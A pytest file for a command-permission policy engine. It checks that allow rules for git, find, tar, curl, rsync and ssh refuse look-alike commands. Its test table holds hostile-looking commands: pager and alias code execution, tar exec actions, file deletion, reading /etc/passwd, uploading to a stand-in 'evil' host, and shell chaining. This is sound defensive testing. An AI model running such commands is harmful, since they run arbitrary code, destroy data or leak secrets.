"""Rules that allow a command, as the documentation shows them, are tried with commands that seem to
fit and do something else."""

from __future__ import annotations

import re
import tomllib
from pathlib import Path

import pytest

from nanobot.config.settings.tools import PolicySettings, RuleSettings
from nanobot.messages import Role
from nanobot.plugins.common.policy.policy import Policy
from nanobot.plugins.common.policy.rules import PolicyInput
from nanobot.tools.verdict import Verdict

PAGES = Path(__file__).parents[2] / "docs"
TABLES = r"(?:^    .*\n|^\n)+|```toml\n(?:.*\n)*?```"
PROGRAM = {
    "git": (
        "git -c alias.x='!curl evil' x",
        "git -calias.x='!sh' x",
        "git --config-env=core.pager=X log",
        "git --exec-path=. log",
        "git -C /elsewhere status",
        "git --git-dir=evil status",
        "git '-c' core.sshCommand=evil fetch",
        'git "-"c core.pager=evil log',
        "git config alias.x '!evil'",
        "git config --global core.pager evil",
        "git clone ext::evil x",
        "git fetch --upload-pack=evil origin",
        "git fetch --upload-pack evil origin",
        "git push --receive-pack=evil origin",
        "git ls-remote --exec=evil x",
        "git grep -Oevil x",
        "git grep --open-files-in-pager=evil x",
        "git diff --output=AGENTS.md",
        "git diff --ext-diff",
        "git log --output=AGENTS.md",
        "git rebase -x evil HEAD~1",
        "git rebase --exec evil HEAD~1",
        "git bisect run evil",
        "git submodule foreach evil",
        "git difftool -x evil",
        "git filter-branch --tree-filter evil",
        "git -p log",
        "git status; evil",
        "git status && evil",
        "git status | evil",
        "git status\nevil",
        "git status $(evil)",
        "git status `evil`",
        "git status <(evil)",
        "git status > AGENTS.md",
        "git status & evil",
        "git $X",
        "git init --template=evil",
    ),
    "find": ("find . -exec evil \\;", "find . -delete", "find . -fprintf AGENTS.md x"),
    "tar": (
        "tar cf x --checkpoint=1 --checkpoint-action=exec=evil .",
        "tar xf x --to-command=evil",
        "tar -Ievil -cf x .",
    ),
    "curl": ("curl -o AGENTS.md x", "curl -sKevil x", "curl file:///etc/passwd", "curl -T x evil"),
    "rsync": ("rsync -e evil a b:c", "rsync -ae evil a b:c", "rsync --rsh=evil a b:c"),
    "ssh": ("ssh -oProxyCommand=evil host", "ssh -F evil host"),
}
FITTING = {
    "git": (
        "git status",
        "git log --oneline -5",
        "git diff HEAD~1 -- src/main.py",
        "git add -A",
        "git commit -m 'Fix the -c option and more'",
        "git push origin main",
        "git checkout -b feature/x",
        "git branch -a",
        "git stash pop",
        "git show HEAD:README.md",
    ),
    "find": ("find . -name '*.py' -newer x",),
    "tar": ("tar xzf a.tgz", "tar -czf b.tgz src"),
    "curl": ("curl -sSL https://example.org", "curl -H 'A: b' https://example.org/x"),
    "rsync": ("rsync -av a b",),
    "ssh": ("ssh host uptime",),
}


def verdict(pattern: str, command: str, role: Role = Role.MEMBER) -> Verdict:
    rule = RuleSettings(verdict="allow", tool="exec", args={"command": pattern})
    call = PolicyInput(tool="exec", arguments={"command": command}, role=role)
    return Policy(PolicySettings(rules=(rule,))).judge(call).verdict


@pytest.mark.parametrize(
    ("program", "command"),
    [(name, line) for name, commands in PROGRAM.items() for line in commands],
)
def test_a_rule_for_a_program_allows_no_other(program: str, command: str) -> None:
    assert verdict(f"{program} *", command) is Verdict.ASK
    assert verdict("*", command) is Verdict.ASK


@pytest.mark.parametrize(
    ("program", "command"),
    [(name, line) for name, commands in FITTING.items() for line in commands],
)
def test_a_rule_for_a_program_allows_what_it_says(program: str, command: str) -> None:
    assert verdict(f"{program} *", command) is Verdict.ALLOW


def test_words_that_a_rule_names_itself_are_allowed() -> None:
    assert verdict("git -C project status", "git -C project status") is Verdict.ALLOW
    assert verdict("git -C project *", "git -C project log") is Verdict.ALLOW
    assert verdict("git -C project *", "git -C project -c alias.x=!sh x") is Verdict.ASK


def test_every_documented_rule_that_allows_commands_is_tried_here() -> None:
    patterns = set()
    for page in PAGES.glob("*.md"):
        for table in re.findall(
            r"(?:^    .*\n|^\n)+|```toml\n(?:.*\n)*?```", page.read_text(), re.MULTILINE
        ):
            text = re.sub(r"(?m)^    |^```.*$", "", table)
            if "[[policy.rules]]" not in text:
                continue
            for rule in tomllib.loads(text)["policy"]["rules"]:
                if rule["verdict"] == "allow" and "command" in rule.get("args", {}):
                    patterns.add(rule["args"]["command"])
    assert patterns
    for pattern in patterns:
        program = pattern.split()[0]
        assert all(verdict(pattern, line) is Verdict.ASK for line in PROGRAM[program])
